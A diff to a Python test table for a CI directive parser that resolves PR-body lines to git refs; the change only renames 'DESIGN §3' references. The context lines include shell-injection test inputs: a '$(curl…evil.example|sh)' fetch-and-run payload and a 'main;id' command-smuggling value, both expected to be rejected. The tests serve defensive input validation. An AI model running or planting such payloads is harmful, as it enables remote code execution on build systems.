@@ -1,4 +1,4 @@
-"""The directive grammar (DESIGN §3), as a table run against the parser itself: each case's
+"""The directive grammar (architecture §3), as a table run against the parser itself: each case's
 text is the whole PR body."""
 
 from __future__ import annotations
@@ -25,7 +25,7 @@ FENCED = "GitHub shows this line as code (it is inside a fenced code block), so 
 
 # (id, body, expected refs per dependency, error substring, warning substring)
 CASES = [
-    # ---- value forms (DESIGN §3 table) ----
+    # ---- value forms (architecture §3 table) ----
     ("pr-hash", "ci-sglang-pr: #30421", {"sglang": "refs/pull/30421/head"}, None, None),
     ("pr-pull-slash", "ci-sglang-pr: pull/12", {"sglang": PR}, None, None),
     ("pr-refs-pull-head", "ci-sglang-pr: refs/pull/12/head", {"sglang": PR}, None, None),
@@ -93,7 +93,7 @@ CASES = [
      "read as a branch name"),
     ("hex-word-is-a-branch", "ci-sglang-pr: cafe", {"sglang": "cafe"}, None, None),
     ("hex-7-is-a-short-commit", "ci-sglang-pr: 123abcd", {"sglang": "123abcd"}, None, None),
-    # ---- values that end up in other people's scripts (shell-safe, DESIGN §3) ----
+    # ---- values that end up in other people's scripts (shell-safe, architecture §3) ----
     ("shell-command-substitution", "ci-megatron-pr: $(curl${IFS}-s${IFS}evil.example|sh)", {},
      "contains '$': a branch or tag name here may use only letters, digits and . _ / + -", None),
     ("shell-semicolon", "ci-sglang-pr: main;id", {}, "give the branch's commit SHA instead",
